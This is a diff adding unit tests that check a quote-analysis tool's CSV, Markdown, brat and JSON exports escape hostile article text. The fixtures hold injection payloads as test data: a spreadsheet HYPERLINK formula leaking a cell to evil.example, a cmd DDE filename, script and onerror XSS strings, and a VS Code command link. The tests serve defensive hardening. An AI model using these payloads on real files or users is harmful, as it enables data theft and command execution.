@@ -8,6 +8,9 @@ import { strict as assert } from 'node:assert';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { analyze, SCHEMA, type Analysis, type Entity, type Mention, type Quote, type Span, type TextSpan } from '../../src/core';
+import { formatBrat } from '../../src/present/brat';
+import { csvHeader, formatCsvRows } from '../../src/present/csv';
+import { formatJson, formatJsonl } from '../../src/present/json';
 import { formatMarkdown } from '../../src/present/markdown';
 import { escapeMarkdown, escapeMarkdownLine, shorten } from '../../src/present/markdown-text';
 import { looksLikeProse } from '../../src/present/prose';
@@ -796,5 +799,211 @@ describe('present: sources matched to no one, and names inside quotes', () => {
     assert.equal(escapeMarkdownLine('# not a heading'), '\\# not a heading');
     assert.equal(escapeMarkdownLine('> not a quote'), '\\> not a quote');
     assert.equal(escapeMarkdownLine('plain words'), 'plain words');
+  });
+});
+
+// ───────────── exports are safe to open ─────────────
+// Article text in an export never acts: no spreadsheet formula in the CSV, nothing that renders as
+// a link, an image, HTML or a block in the Markdown, no line break inside a brat record or a JSON
+// Lines record. Each guard of src/present/{csv,markdown-text,brat,json}.ts has a case here that
+// fails without it (checked by reverting each guard, see the README's "Robustness").
+
+describe('present: exports are safe to open', () => {
+  /** A hand-built analysis of `text`. */
+  const build = (text: string, entities: Entity[], quotes: Quote[], file = 'hostile.txt'): Analysis => ({
+    schema: SCHEMA,
+    file,
+    length: text.length,
+    body: { start: 0, end: text.length },
+    entities,
+    quotes,
+    credits: [],
+  });
+  const at2 = (text: string, needle: string, after = ''): TextSpan => textSpan(needle, after, text);
+
+  describe('CSV: no cell a spreadsheet would run as a formula', () => {
+    // Each text column starts with another of the characters OWASP (and ASVS, for NUL) lists.
+    const T = [
+      '+Mr Evil (-1 title) told @source: =HYPERLINK("http://evil.example/?leak="&A1,"Click") was fine.',
+      '',
+      '\tThey said:\r"\u0000null start" and more.',
+      '',
+    ].join('\n');
+    const evil: Entity = { id: 'e1', type: 'person', name: '+Mr Evil', title: '-1 title', mentions: [{ ...at2(T, '+Mr Evil'), via: 'name' }] };
+    const a = build(
+      T,
+      [evil],
+      [
+        quote('q1', {
+          kind: 'indirect',
+          content: [span('=HYPERLINK("http://evil.example/?leak="&A1,"Click") was fine', '', T)],
+          cue: at2(T, 'told'),
+          source: at2(T, '@source'),
+          speaker: 'e1',
+        }),
+        quote('q2', { kind: 'direct', content: [span('\r"\u0000null start"', '', T)], cue: at2(T, 'said'), source: at2(T, '\tThey') }),
+        quote('q3', { kind: 'direct', content: [span('\u0000null start"', '', T)] }),
+      ],
+      "=cmd|' /C calc'!A0.txt",
+    );
+    const out = csvHeader() + formatCsvRows(a, T);
+
+    it('prefixes an apostrophe to every cell starting with = + - @, a tab, a CR or a NUL', () => {
+      const rows = out.split('\r\n').slice(1, -1);
+      // Worked out by hand: file, quote, kind, speaker, speaker_title, anonymous, source, cue, content, start, end, confidence.
+      const s1 = T.indexOf('=HYPERLINK');
+      const e1 = T.indexOf(' was fine') + ' was fine'.length;
+      assert.equal(
+        rows[0],
+        `'=cmd|' /C calc'!A0.txt,q1,indirect,'+Mr Evil,'-1 title,false,'@source,told,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"") was fine",${s1},${e1},0.8`,
+      );
+      const s2 = T.indexOf('\r"');
+      const e2 = T.indexOf('start"') + 'start"'.length;
+      // q2's content starts with a CR: the record holds it quoted, so split the rest by hand.
+      assert.ok(out.includes(`'=cmd|' /C calc'!A0.txt,q2,direct,,,false,'\tThey,said,"'\r""\u0000null start""",${s2},${e2},0.8\r\n`), JSON.stringify(out));
+      assert.ok(out.endsWith(`'=cmd|' /C calc'!A0.txt,q3,direct,,,false,,,"'\u0000null start""",${s2 + 2},${e2},0.8\r\n`), JSON.stringify(out));
+    });
+
+    it('leaves a formula character that is not the first one alone, and never marks the numbers it writes', () => {
+      assert.ok(out.includes(',told,'), 'a plain cell stays plain');
+      assert.ok(!out.includes("'0.8") && !out.includes(`'${T.indexOf('=HYPERLINK')}`));
+    });
+  });
+
+  describe('Markdown: article text renders as text', () => {
+    const NAME = '[x](command:workbench.action.terminal.new)';
+    const T = [
+      `${NAME} said "<script>alert(1)</script> <img src=x onerror=alert(1)> www.evil.example & https://evil.example/a_b".`,
+      '',
+      `${NAME} told reporters # Breaking: **bold** _em_ ~~gone~~ \`code\` $x$ \\ end.`,
+      '',
+      '"1. first\u2028- second\u2029+ third\u0085= fourth\r\n> fifth\rsixth\nseventh," | a | b | said.',
+      '',
+      '=HYPERLINK("http://evil.example","x") warned reporters.',
+      '',
+    ].join('\n');
+    const x: Entity = { id: 'e1', type: 'person', name: NAME, title: '<b>Minister</b>', mentions: [{ ...at2(T, NAME), via: 'name' }] };
+    const a = build(
+      T,
+      [x],
+      [
+        quote('q1', {
+          kind: 'direct',
+          content: [span('"<script>alert(1)</script> <img src=x onerror=alert(1)> www.evil.example & https://evil.example/a_b"', '', T)],
+          cue: at2(T, 'said'),
+          source: at2(T, NAME),
+          speaker: 'e1',
+        }),
+        quote('q2', {
+          kind: 'indirect',
+          content: [span('# Breaking: **bold** _em_ ~~gone~~ `code` $x$ \\ end', '', T)],
+          cue: at2(T, 'told'),
+          source: at2(T, NAME, '\n\n'),
+          speaker: 'e1',
+        }),
+        quote('q3', {
+          kind: 'direct',
+          content: [span('"1. first\u2028- second\u2029+ third\u0085= fourth\r\n> fifth\rsixth\nseventh,"', '', T)],
+          cue: at2(T, 'said', 'seventh'),
+          source: at2(T, '| a | b |'),
+        }),
+        quote('q4', { kind: 'indirect', content: [span('=HYPERLINK("http://evil.example","x")', '', T)], cue: at2(T, 'warned') }),
+      ],
+      'news/<img src=x onerror=alert(1)>.txt',
+    );
+    const md = formatMarkdown(a, T);
+    const mdLines = md.split('\n');
+
+    it('(the fixture: every span holds the text it claims)', () => {
+      for (const q of a.quotes) for (const t of [q.cue, q.source]) if (t) assert.equal(T.slice(t.start, t.end), t.text);
+      assert.equal(T.slice(x.mentions[0]!.start, x.mentions[0]!.end), NAME);
+      assert.ok(a.quotes[1]!.source!.start > a.quotes[0]!.source!.start);
+    });
+
+    it('escapes a command: link in a speaker name, in the heading and the table', () => {
+      const escapedName = '\\[x\\](command\\:workbench.action.terminal.new)';
+      assert.ok(mdLines.includes(`### ${escapedName}`), md);
+      assert.ok(mdLines.some((l) => l.startsWith(`| ${escapedName} | \\<b\\>Minister\\</b\\> | 1 | 1 | 0 | `)), md);
+      assert.ok(!md.includes('](command:') && !md.includes('<b>'), md);
+    });
+
+    it('escapes HTML tags, entities, links and autolinks in a quote', () => {
+      assert.ok(
+        mdLines.includes('> "\\<script\\>alert(1)\\</script\\> \\<img src=x onerror=alert(1)\\> www\\.evil.example \\& https\\://evil.example/a\\_b"'),
+        md,
+      );
+      assert.ok(!/(?<!\\)<\/?(?:script|img|b)\b/.test(md), md);
+    });
+
+    it('escapes emphasis, code, strike, math and backslashes, and keeps a block from starting inside a line', () => {
+      assert.ok(mdLines.includes('> \\# Breaking\\: \\*\\*bold\\*\\* \\_em\\_ \\~\\~gone\\~\\~ \\`code\\` \\$x\\$ \\\\ end'), md);
+    });
+
+    it('flattens every line break of the article (LF, CRLF, CR, NEL, LS, PS) so a quote stays one line', () => {
+      assert.ok(mdLines.includes('> "1. first - second + third = fourth \\> fifth sixth seventh,"'), md);
+      assert.ok(!/[\r\u0085\u2028\u2029]/.test(md), JSON.stringify(md));
+    });
+
+    it('starts a quote line with an escaped list number, dash, plus, equals or hash when the quote does', () => {
+      const lead = (content: string): string[] => {
+        const text = `${content} said.`;
+        const q = quote('q1', { kind: 'indirect', content: [{ start: 0, end: content.length }], cue: at2(text, 'said') });
+        return formatMarkdown(build(text, [], [q]), text).split('\n').filter((l) => l.startsWith('> '));
+      };
+      assert.deepEqual(lead('1. one'), ['> 1\\. one']);
+      assert.deepEqual(lead('2) two'), ['> 2\\) two']);
+      assert.deepEqual(lead('- dash'), ['> \\- dash']);
+      assert.deepEqual(lead('+ plus'), ['> \\+ plus']);
+      assert.deepEqual(lead('= equals'), ['> \\= equals']);
+      assert.deepEqual(lead('# hash'), ['> \\# hash']);
+    });
+
+    it('keeps a table row to its own six cells when a source holds pipes', () => {
+      const row = mdLines.find((l) => l.startsWith('| \\| a \\| b \\| |'));
+      assert.equal(row, '| \\| a \\| b \\| |  | 1 | 0 | 0 | "1. first - second + third = fourth \\> fifth sixth seventh," |', md);
+    });
+
+    it('escapes the file name in the title; a formula in Markdown is only text', () => {
+      assert.equal(mdLines[0], '# Sources: news/\\<img src=x onerror=alert(1)\\>.txt');
+      assert.ok(mdLines.includes('> \\=HYPERLINK("http\\://evil.example","x")'), md);
+    });
+  });
+
+  describe('brat: one record, one line', () => {
+    // Every character that ends a line for Python's str.splitlines (brat reads .ann files in Python).
+    const BREAKS = ['\n', '\r\n', '\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'];
+    const T = `Ana said "${BREAKS.map((b, i) => `w${i}${b}`).join('')}end".\n`;
+    const content = { start: T.indexOf('"w0'), end: T.indexOf('end"') + 4 };
+    const a = build(T, [], [quote('q1', { kind: 'direct', content: [content], cue: at2(T, 'said'), source: at2(T, 'Ana') })]);
+    const ann = formatBrat(a, T);
+
+    it('replaces each line break inside a copied text by spaces, one for one, keeping the offsets', () => {
+      const lines = ann.split(/\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]/);
+      assert.equal(lines.pop(), '');
+      assert.equal(lines.length, 5, `Source, Cue, Content, trigger and event, one line each:\n${JSON.stringify(ann)}`);
+      const copy = `"${BREAKS.map((b, i) => `w${i}${' '.repeat(b.length)}`).join('')}end"`;
+      assert.equal(lines[2], `T3\tContent ${content.start} ${content.end}\t${copy}`);
+      assert.equal(copy.length, content.end - content.start, 'brat checks the copy against the span length');
+    });
+  });
+
+  describe('JSON and JSON Lines: one record, one line', () => {
+    const T = 'Ana said "one\u2028two\u2029three\u0085four".';
+    const a = build(
+      T,
+      // A made-up entity whose name holds the separators: the way they reach the JSON as text.
+      [{ id: 'e1', type: 'person', name: 'A\u2028B\u2029C\u0085D', title: null, mentions: [{ ...at2(T, 'Ana'), via: 'name' }] }],
+      [quote('q1', { kind: 'direct', content: [{ start: T.indexOf('"'), end: T.length - 1 }], cue: at2(T, 'said'), source: at2(T, 'Ana'), speaker: 'e1' })],
+    );
+
+    it('writes NEL, LS and PS as \\u escapes, so no line splitter cuts a record, and parses back the same', () => {
+      const line = formatJsonl(a);
+      assert.ok(line.includes('"name":"A\\u2028B\\u2029C\\u0085D"'), line);
+      assert.deepEqual(line.split(/\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]/), [line.slice(0, -1), '']);
+      assert.deepEqual(JSON.parse(line), a);
+      const pretty = formatJson(a);
+      assert.ok(!/[\u0085\u2028\u2029]/.test(pretty));
+      assert.deepEqual(JSON.parse(pretty), a);
+    });
   });
 });
